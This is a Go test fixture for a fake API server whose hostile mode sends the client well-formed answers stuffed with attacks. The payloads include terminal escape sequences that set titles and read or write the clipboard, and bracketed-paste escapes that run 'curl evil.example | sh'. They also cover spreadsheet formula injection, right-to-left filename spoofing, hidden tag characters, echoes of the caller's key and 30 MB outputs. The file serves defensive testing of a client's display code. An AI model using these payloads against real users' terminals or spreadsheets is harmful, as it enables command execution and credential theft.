package hubtest

import (
	"encoding/base64"
	"net/url"
	"strings"
	"sync"
)

// The answers of FaultHostile and FaultHostileError: what a hostile server
// (or one whose database an attacker filled) sends to attack the program
// that shows its answers. Each answer has the shape of the real one, so that
// it passes every check of shape and reaches what shows it.

// Hostile account ids and the attacks they carry. Hostile ids are not UUIDs;
// HostileFormulaAccountID and HostilePasteAccountID are, with hostile names
// and email addresses.
const (
	// HostileTitleID sets the terminal's window title (OSC 0).
	HostileTitleID = "3f2a1c9e\x1b]0;pwned\x07"
	// HostileClipboardID writes "echo pwned" and a newline to the clipboard
	// (OSC 52).
	HostileClipboardID = "3f2a1c9e\x1b]52;c;ZWNobyBwd25lZAo=\x07"
	// HostileClipboardQueryID asks the terminal for the clipboard (OSC 52
	// with "?"): the terminal answers by typing it, into the search box.
	HostileClipboardQueryID = "3f2a1c9e\x1b]52;c;?\x07"
	// HostilePasteID ends bracketed paste early, so that a shell the id is
	// pasted into runs the command after it.
	HostilePasteID = "3f2a1c9e \x1b[201~\necho pwned\n"

	// HostileFormulaAccountID's names are spreadsheet formulas (=, +, -, @,
	// TAB, CR).
	HostileFormulaAccountID = "7e57ab1e-0000-4000-8000-000000000001"
	// HostilePasteAccountID's email address ends bracketed paste and runs a
	// command.
	HostilePasteAccountID = "7e57ab1e-0000-4000-8000-000000000002"
	// HostileHugeAccountID's last name is a megabyte of escape sequences.
	HostileHugeAccountID = "7e57ab1e-0000-4000-8000-000000000003"
	// HostileBytesAccountID's names are invalid UTF-8 and a lone surrogate.
	HostileBytesAccountID = "7e57ab1e-0000-4000-8000-000000000004"
	// HostileKeyAccountID's texts echo the caller's key in every form.
	HostileKeyAccountID = "7e57ab1e-0000-4000-8000-000000000005"
	// HostileTagsAccountID's names hide text in tag characters, after a flag
	// and alone.
	HostileTagsAccountID = "7e57ab1e-0000-4000-8000-000000000006"

	// HostilePasteEmail is HostilePasteAccountID's email address.
	HostilePasteEmail = "paste@example.net\x1b[201~\ncurl evil.example | sh\n"
	// hostileHugeJSONBytes is the size of the megabyte errors in JSON.
	hostileHugeJSONBytes = 30 << 20
)

// HostileKeyForms are the forms in which FaultHostile echoes the caller's
// key: as sent, without its "sk-" prefix, as the Authorization header's
// Basic credentials, URL-encoded, and with an invisible character inside
// (U+200B, which cleaning removes, and U+200D, which it keeps).
func HostileKeyForms(key string) []string {
	rest := strings.TrimPrefix(strings.TrimPrefix(key, "sk-"), "sk_")
	split := min(len(key), 7)
	return []string{
		key,
		rest,
		"Basic " + base64.StdEncoding.EncodeToString([]byte(key+":")),
		url.QueryEscape(key),
		key[:split] + "\u200b" + key[split:],
		key[:split] + "\u200d" + key[split:],
	}
}

// hugeUnit is the piece hugeText repeats: 13 bytes, 28 in JSON.
const hugeUnit = "\x1b[2J\x1b]0;huge\x07"

// hugeText is the text of the megabyte names and errors: escape sequences
// repeated, 30 MB in JSON, built once.
var hugeText = sync.OnceValue(func() string {
	return strings.Repeat(hugeUnit, hostileHugeJSONBytes/28)
})

// hostileAnswer is FaultHostile's answer to a call: the function's answer,
// hostile.
func (h *hub) hostileAnswer(call *apiCall) []byte {
	name, _ := call.name.(string)
	now := h.nowMillis()
	switch name {
	case "system.test":
		return marshalJS(object{{"account_id", HostileTitleID + HostileClipboardQueryID}, {"server_time", now}})
	case "system.getNames":
		return marshalJS(hostileNames(call, call.secret))
	case "system.userSearch":
		return marshalJS(hostileAccounts(call.secret, now))
	case "system.adminResetPasswordLink":
		return marshalJS("/auth/password-reset/" + HostileTitleID)
	case "system.generateUserAuthToken":
		return marshalJS("token\x1b[201~\necho pwned\n")
	case "db.userQuery":
		return marshalJS(hostileProjects(call.secret, call.caller))
	case "system.manageApiKeys":
		return marshalJS(hostileKeys(call.secret, now))
	}
	return marshalJS(object{{"now", now}})
}

// hostileNames answers getNames: every id asked for gets a hostile name, and
// a key that is no UUID is added.
func hostileNames(call *apiCall, secret string) object {
	names := object{}
	var ids []any
	if args, ok := field(call.params, "args").([]any); ok && len(args) > 0 {
		ids, _ = args[0].([]any)
	}
	for _, id := range ids {
		names = names.with(toString(id), object{
			{"first_name", "Mallory" + HostileTitleID + HostileClipboardQueryID},
			{"last_name", strings.Join(HostileKeyForms(secret), " ")},
			{"profile", object{{"color", "rgb(1,2,3)\x1b]52;c;?\x07"}, {"image", "data:image/png;base64," + strings.Repeat("A", 40000)}}},
		})
	}
	return names.with(HostileTitleID, object{{"first_name", "Not"}, {"last_name", "A UUID"}})
}

// hostileAccounts answers userSearch.
func hostileAccounts(secret string, now int64) []any {
	account := func(id any, first, last, username, email any) object {
		return object{{"account_id", id}, {"first_name", first}, {"last_name", last}, {"name", username},
			{"email_address", email}, {"last_active", now - 60_000}, {"created", now - 86_400_000},
			{"banned", nil}, {"email_address_verified", true}}
	}
	keyForms := HostileKeyForms(secret)
	return []any{
		account(HostileTitleID, "Title", "Setter", nil, "title@example.net"),
		account(HostileClipboardID, "Clipboard", "Writer", nil, "clipboard@example.net"),
		account(HostileClipboardQueryID, "Clipboard", "Reader", nil, "reader@example.net"),
		account(HostilePasteID, "Bracketed", "Paste", nil, "id-paste@example.net"),
		account(HostileFormulaAccountID, `=HYPERLINK("http://evil.example/?"&A1,"Click")`, "+1+cmd|' /C calc'!A0",
			"@SUM(1+1)*cmd", "-2+3@example.net"),
		account(HostilePasteAccountID, "\tTab", "\rReturn", nil, HostilePasteEmail),
		account(HostileHugeAccountID, "Huge", hugeText()[:1<<20], nil, "huge@example.net"),
		account(HostileBytesAccountID, verbatim("\"bad \xff\xfe bytes\""), verbatim(`"lone \ud800 surrogate"`),
			verbatim(`"\udc00"`), "bytes@example.net"),
		account(HostileKeyAccountID, keyForms[0]+" "+keyForms[1], keyForms[2], keyForms[4], keyForms[3]+"@example.net"),
		account(HostileTagsAccountID, "🏴\U000E0041\U000E0042\U000E0043\U000E007F Flag",
			"Hidden\U000E0069\U000E0067\U000E006E\U000E006F\U000E0072\U000E0065", keyForms[5], "tags@example.net"),
	}
}

// hostileProjects answers a projects query: ids that are not UUIDs, titles
// that set the window title, write the clipboard, reorder text and echo the
// key, users and times that are not what they claim.
func hostileProjects(secret string, caller *Account) object {
	callerID := ""
	if caller != nil {
		callerID = caller.AccountID
	}
	project := func(id, title any) object {
		return object{{"project_id", id}, {"title", title},
			{"users", object{{callerID, object{{"group", "owner\x1b[31m"}}}, {HostileTitleID, object{{"group", "owner"}}}}},
			{"last_active", object{{callerID, "2026-11-30T08:49:26.306Z\x1b]0;pwned\x07"}, {HostileClipboardID, "yesterday"}}},
			{"last_edited", "not a time\x1b[2J"}}
	}
	keyForms := HostileKeyForms(secret)
	return object{{"projects", []any{
		project(HostileTitleID, "Title\x1b]0;pwned\x07 setter"),
		project(HostileFormulaAccountID, "Clipboard\x1b]52;c;ZWNobyBwd25lZAo=\x07 writer \u202egnp.exe"),
		project(HostilePasteAccountID, keyForms[0]+" "+keyForms[2]),
		project(HostileHugeAccountID, hugeText()[:1<<20]),
	}}}
}

// hostileErrors caches FaultHostileError's answers by key: each is 30 MB.
var hostileErrors sync.Map

// hostileErrorAnswer is FaultHostileError's answer: an error of 30 MB.
func hostileErrorAnswer(secret string) []byte {
	if answer, ok := hostileErrors.Load(secret); ok {
		return answer.([]byte)
	}
	text := "Error: " + HostileTitleID + HostileClipboardQueryID + " \u202e " + strings.Join(HostileKeyForms(secret), " ") +
		" " + hugeText()
	answer, _ := hostileErrors.LoadOrStore(secret, marshalJS(object{{"error", text}}))
	return answer.([]byte)
}

// hostileKeys answers manageApiKeys: the caller's own key (its trunc is
// right) named with escape sequences and the key itself, a key whose trunc
// is the caller's whole key, and one with a megabyte name and a trunc that
// clears the screen; account ids that are no UUIDs.
func hostileKeys(secret string, now int64) []any {
	keyForms := HostileKeyForms(secret)
	created, expire := isoTime(&now), now+3*86_400_000
	key := func(id int64, name, trunc string) object {
		return object{{"id", id}, {"account_id", HostileTitleID}, {"expire", isoTime(&expire)},
			{"created", created}, {"name", name}, {"trunc", trunc}, {"last_active", created}}
	}
	return []any{
		key(1, "grading"+HostileTitleID+HostileClipboardQueryID+" "+keyForms[0]+" "+keyForms[4], truncSecret(secret)),
		key(2, "Clipboard\x1b]52;c;ZWNobyBwd25lZAo=\x07 \u202eevil", secret),
		key(3, hugeText()[:1<<20], "sk-...\x1b[2J\x1b]0;huge\x07"),
	}
}
